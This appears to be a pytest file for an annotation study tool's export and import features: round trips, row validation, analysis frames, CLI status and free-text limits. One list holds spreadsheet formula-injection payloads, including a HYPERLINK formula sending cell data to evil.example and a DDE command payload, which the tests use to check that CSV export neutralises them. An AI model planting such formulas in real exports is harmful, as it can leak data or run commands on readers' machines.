"""Export/import round trip, validated and idempotent imports, and the frames the analysis reads."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from study_helpers import small_project

from annotations import (
    create_study,
    export_csv,
    export_jsonl,
    import_responses,
    load_study,
    open_rater_session,
    record_item_audit,
    preferences_frame,
    ratings_frame,
    response_rows,
)
from annotations.design import DesignParams
from gcpc_core.store import Store
from annotations.targets import add_annotation

RATERS = ("ann", "ben", "cat")


def answered_study(store: Store) -> str:
    """A study where every rater answers their queue, some twice (edits), one with a note."""
    small_project(store, tasks=2, per_stratum=2)
    created = create_study(store, DesignParams(tasks=None, per_task=6, raters_per_unit=2, seed=11, raters=RATERS,
                                               pairs_per_task=4), study_id="s1")
    for n, (rater, token) in enumerate(created.tokens.items()):
        s = open_rater_session(store, token)
        for i, item in enumerate(s.queue()):
            if item.kind == "progress_rating":
                s.submit_rating(item.target, 1 + (i + n) % 5, note="unsure" if i == 0 else None)
                if i % 3 == 0:
                    s.submit_rating(item.target, 1 + (i + n + 1) % 5)  # an edit
            else:
                s.submit_preference(item.target, ("A", "B", "tie")[(i + n) % 3], 1 + i % 3)
    return created.study_id


def project_like(store: Store, path: Path) -> Store:
    """A second project holding the same trajectories (as after importing the same runs)."""
    other = Store(path)
    small_project(other, tasks=2, per_stratum=2)
    return other


def test_jsonl_round_trip_recreates_study_and_answers(store: Store, tmp_path: Path) -> None:
    sid = answered_study(store)
    text = export_jsonl(store, sid)
    head = json.loads(text.splitlines()[0])
    assert head["record"] == "study" and head["design"]["design"]["units"] and "token_hash" not in text
    other = project_like(store, tmp_path / "other.db")
    report = import_responses(other, text)
    assert report.ok and report.created_studies == [sid]
    assert report.added == len(text.splitlines()) - 1 and report.duplicates == 0
    assert list(response_rows(other, sid)) == list(response_rows(store, sid))
    assert export_jsonl(other, sid) == text  # byte-identical: design, assignments and history
    again = import_responses(other, text)
    assert again.ok and again.added == 0 and again.duplicates == report.added  # idempotent
    assert again.created_studies == []


def test_csv_round_trip_into_a_restored_study(store: Store, tmp_path: Path) -> None:
    sid = answered_study(store)
    other = project_like(store, tmp_path / "other.db")
    design_only = export_jsonl(store, sid).splitlines()[0] + "\n"
    assert import_responses(other, design_only).created_studies == [sid]
    table = export_csv(store, sid)
    header = next(csv.reader(io.StringIO(table)))
    assert header[:8] == ["study_id", "annotation_id", "kind", "unit_id", "pair_id", "task", "trajectory_id", "left_id"]
    report = import_responses(other, table)
    assert report.ok and report.added == len(table.splitlines()) - 1
    assert export_csv(other, sid) == table
    assert import_responses(store, table).added == 0  # back into the source: all already there


def test_current_only_export_has_one_row_per_rater_and_target(store: Store) -> None:
    sid = answered_study(store)
    rows = list(response_rows(store, sid, history=False))
    keys = [(r["rater"], r["unit_id"] or r["pair_id"]) for r in rows]
    assert len(keys) == len(set(keys)) and all(r["is_current"] for r in rows)
    assert len(list(response_rows(store, sid))) > len(rows)  # history holds the edits too


def test_import_validates_rows_and_reports_each_rejection(store: Store) -> None:
    sid = answered_study(store)
    good = next(r for r in response_rows(store, sid, history=False) if r["kind"] == "progress_rating")
    unit, rater = good["unit_id"], good["rater"]
    stranger = next(r for r in RATERS if r not in {x.rater for x in store.studies.assignments(sid)
                                                    if x.target == unit})
    pair = next(r for r in response_rows(store, sid) if r["kind"] == "preference")
    lines = [
        {"study_id": sid, "kind": "progress_rating", "unit_id": unit, "rater": rater, "rating": 9},
        {"study_id": sid, "kind": "progress_rating", "unit_id": unit, "rater": "mallory", "rating": 2},
        {"study_id": sid, "kind": "progress_rating", "unit_id": "U-NOPE", "rater": rater, "rating": 2},
        {"study_id": sid, "kind": "progress_rating", "unit_id": unit, "rater": stranger, "rating": 2},
        {"study_id": sid, "kind": "preference", "pair_id": pair["pair_id"], "rater": pair["rater"], "choice": "C",
         "confidence": 2},
        {"study_id": "s-missing", "kind": "preference", "pair_id": "P-X", "rater": rater, "choice": "A"},
        {"study_id": sid, "kind": "progress_rating", "unit_id": unit, "rater": rater, "rating": 2,
         "created_at": "2030-01-01T00:00:00+00:00", "note": "collected on paper"},
    ]
    text = "\n".join(json.dumps(x) for x in lines) + "\n{not json\n"
    report = import_responses(store, text)
    reasons = dict(report.rejected)
    assert report.added == 1 and set(reasons) == {1, 2, 3, 4, 5, 6, 8}
    assert "rating must be one of" in reasons[1] and "not a rater" in reasons[2] and "no unit" in reasons[3]
    assert "never assigned" in reasons[4] and "choice must be one of" in reasons[5]
    assert "no study" in reasons[6] and "not JSON" in reasons[8]
    current = store.annotations.list(study_id=sid, rater=rater, kind="progress_rating")
    assert any(r.note == "collected on paper" and r.source == "import" for r in current)
    forced = import_responses(store, json.dumps(lines[3]), allow_unassigned=True)
    assert forced.ok and forced.added == 1


def test_frames_hold_current_answers_in_the_analysis_contract(store: Store) -> None:
    sid = answered_study(store)
    ratings = ratings_frame(store, sid)
    assert list(ratings.columns[:4]) == ["trajectory_id", "task", "rater", "rating"]
    assert ratings["rating"].between(1, 5).all() and not ratings.duplicated(["trajectory_id", "rater"]).any()
    units = {u.trajectory_id for u in store.studies.units(sid)}
    assert set(ratings["trajectory_id"]) <= units
    prefs = preferences_frame(store, sid)
    assert list(prefs.columns[:7]) == ["pair_id", "task", "left_id", "right_id", "rater", "choice", "confidence"]
    assert set(prefs["choice"]) <= {"A", "B", "tie"} and prefs["pair_id"].str.startswith(f"{sid}/").all()
    assert (prefs["left_id"] != prefs["right_id"]).all()
    assert ratings_frame(store, "no-such-study").empty and list(preferences_frame(store, "none").columns)[0] == "pair_id"


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_cli_export_import_status(store: Store, tmp_path: Path, fmt: str, capsys: pytest.CaptureFixture[str]) -> None:
    from gcpc_core.cli import main

    sid = answered_study(store)
    out = tmp_path / f"study.{fmt}"
    assert main(["study", "export", "--db", str(store.path), "--format", fmt, "--out", str(out)]) == 0
    assert main(["study", "import", "--db", str(store.path), str(out)]) == 0
    assert "0 added" in capsys.readouterr().out
    assert main(["study", "status", "--db", str(store.path), "--json"]) == 0
    status = json.loads(capsys.readouterr().out)
    assert status["study_id"] == sid and {a["kind"] for a in status["alpha"]} == {"progress_rating", "preference"}
    bad = tmp_path / "bad.csv"
    bad.write_text("study_id,kind,unit_id,rater,rating\ns1,progress_rating,U-NOPE,ann,3\n")
    assert main(["study", "import", "--db", str(store.path), str(bad)]) == 1
    assert "line 2: no unit 'U-NOPE'" in capsys.readouterr().out


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
            "＝1+1", '=1+2";=1+2', "'=already quoted"]
"""Rater comments that a spreadsheet would run (whitespace-led variants: tests/test_csv_safe.py; notes are stored stripped)."""


def noted_study(store: Store, notes: list[str]) -> tuple[str, list[str]]:
    """A study where rater ann's first rated units carry `notes` as comments; returns (study id, unit ids)."""
    created = small_study_for_notes(store)
    ann = open_rater_session(store, created.tokens["ann"])
    units = [i.target for i in ann.queue() if i.kind == "progress_rating"][:len(notes)]
    for unit, note in zip(units, notes):
        ann.submit_rating(unit, 3, note=note)
    return created.study_id, units


def small_study_for_notes(store: Store):
    small_project(store, tasks=2, per_stratum=2)
    return create_study(store, DesignParams(tasks=None, per_task=6, raters_per_unit=1, seed=4, raters=("ann",),
                                            pairs_per_task=0), study_id="s1")


def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(store: Store, tmp_path: Path) -> None:
    sid, _ = noted_study(store, FORMULAS)
    table = export_csv(store, sid)  # the Study admin page's download and `study export --format csv`
    cells = [c for row in csv.reader(io.StringIO(table)) for c in row]
    assert sorted(c for c in cells if c[1:] in FORMULAS) == sorted("'" + n for n in FORMULAS)
    assert "'=1+2\"\";=1+2" in table  # the field is quoted: its quote and separator cannot start a cell
    assert not any(c[:1] in "=+-@\t\r＝" for c in cells if c), "a live formula cell"
    jsonl_notes = [json.loads(line)["note"] for line in export_jsonl(store, sid).splitlines()[1:]]
    assert sorted(n for n in jsonl_notes if n) == sorted(FORMULAS)  # JSONL stays exact
    other = project_like(store, tmp_path / "other.db")
    import_responses(other, export_jsonl(store, sid).splitlines()[0] + "\n")
    assert import_responses(other, table).ok
    assert sorted(r.note for r in other.annotations.list(study_id=sid) if r.note) == sorted(FORMULAS)


def test_free_text_up_to_the_limit_survives_csv_and_beyond_it_is_refused(store: Store, tmp_path: Path,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    from annotations.limits import FREE_TEXT_MAX_CHARS
    from gcpc_core.cli import main

    long = "=" + "x" * (FREE_TEXT_MAX_CHARS - 1)  # over Python's default CSV field limit (131,072), and a formula
    assert len(long) > 131_072
    sid, units = noted_study(store, ["to be replaced", "short"])
    unit = load_study(store, sid).units[units[0]]
    add_annotation(store, kind="progress_rating", rater="ann", value={"rating": 3}, study_id=sid, task=unit.task,
                   trajectory_id=unit.trajectory_id, unit_id=units[0], note=long)  # past the rater's comment limit
    ann = open_rater_session(store, _token(store, sid, "ann"))
    with pytest.raises(ValueError, match="comment has 262,145 characters, over the limit of 4,000"):
        ann.submit_rating(units[1], 2, note=long + "y")  # a rater's comment: the much smaller limit
    with pytest.raises(ValueError, match="over the free-text limit"):  # the review app's audit notes: same limit
        record_item_audit(store, trajectory_id=load_study(store, sid).units[units[0]].trajectory_id, item_id="C1",
                          judge="probe", reviewer="ann", agree=True, note=long + "y")
    out = tmp_path / "study.csv"
    assert main(["study", "export", "--db", str(store.path), "--format", "csv", "--out", str(out)]) == 0
    assert "'=" + "x" * 100 in out.read_text()  # neutralised on the way out
    other = project_like(store, tmp_path / "other.db")
    import_responses(other, export_jsonl(store, sid).splitlines()[0] + "\n")
    capsys.readouterr()
    assert main(["study", "import", "--db", str(other.path), str(out)]) == 0
    assert any(r.note == long for r in other.annotations.list(study_id=sid))
    # one character over: a clear rejection naming the file and the line, the other rows imported
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    rows[0]["note"], rows[0]["client_token"] = long + "yy", "fresh-token"
    too_long = tmp_path / "too-long.csv"
    with too_long.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    third = project_like(store, tmp_path / "third.db")
    import_responses(third, export_jsonl(store, sid).splitlines()[0] + "\n")
    assert main(["study", "import", "--db", str(third.path), str(too_long)]) == 1
    printed = capsys.readouterr().out
    assert f"{too_long}: line 2: field 'note' has {FREE_TEXT_MAX_CHARS + 2:,} characters, over the free-text limit" \
        in printed
    assert f"{len(rows) - 1} added" in printed
    jsonl = json.dumps({"study_id": sid, "kind": "progress_rating", "unit_id": units[1], "rater": "ann", "rating": 4,
                        "note": long + "y"})
    assert "over the free-text limit" in import_responses(third, jsonl).rejected[0][1]
    not_text = jsonl.replace(json.dumps(long + "y"), "5")
    assert "note must be text, not int" in import_responses(third, not_text).rejected[0][1]


def test_export_refuses_a_stored_note_over_the_limit_and_writes_nothing(store: Store, tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    from annotations.limits import FREE_TEXT_MAX_CHARS
    from gcpc_core.cli import main

    sid, units = noted_study(store, ["fine"])
    unit = load_study(store, sid).units[units[0]]
    row, _ = add_annotation(store, kind="progress_rating", rater="ann", value={"rating": 2}, study_id=sid,
                                  task=unit.task, trajectory_id=unit.trajectory_id, unit_id=units[0],
                                  note="n" * (FREE_TEXT_MAX_CHARS + 1))  # written past the input checks
    out = tmp_path / "study.csv"
    for fmt in ("csv", "jsonl"):
        assert main(["study", "export", "--db", str(store.path), "--format", fmt, "--out", str(out)]) == 2
        err = capsys.readouterr().err
        assert f"annotation {row.id} of rater ann: note has {FREE_TEXT_MAX_CHARS + 1:,} characters" in err
        assert not out.exists()


def _token(store: Store, sid: str, rater: str) -> str:
    from annotations import issue_link

    return issue_link(store, sid, rater)


def test_an_imported_history_is_held_to_the_version_cap(store: Store, tmp_path: Path) -> None:
    from annotations.limits import ANSWER_VERSIONS_MAX

    sid, units = noted_study(store, ["v0"])
    unit = load_study(store, sid).units[units[0]]
    for n in range(1, ANSWER_VERSIONS_MAX + 1):  # written past the rate page's cap: one version too many
        add_annotation(store, kind="progress_rating", rater="ann", value={"rating": 1 + n % 5}, study_id=sid,
                       task=unit.task, trajectory_id=unit.trajectory_id, unit_id=units[0], note=f"v{n}")
    other = project_like(store, tmp_path / "other.db")
    report = import_responses(other, export_jsonl(store, sid), source="long.jsonl")
    assert report.added == ANSWER_VERSIONS_MAX and len(report.rejected) == 1
    assert "cannot be changed again" in report.rejected[0][1]
    assert [r.note for r in other.annotations.list(study_id=sid, rater="ann")] == [f"v{ANSWER_VERSIONS_MAX - 1}"]
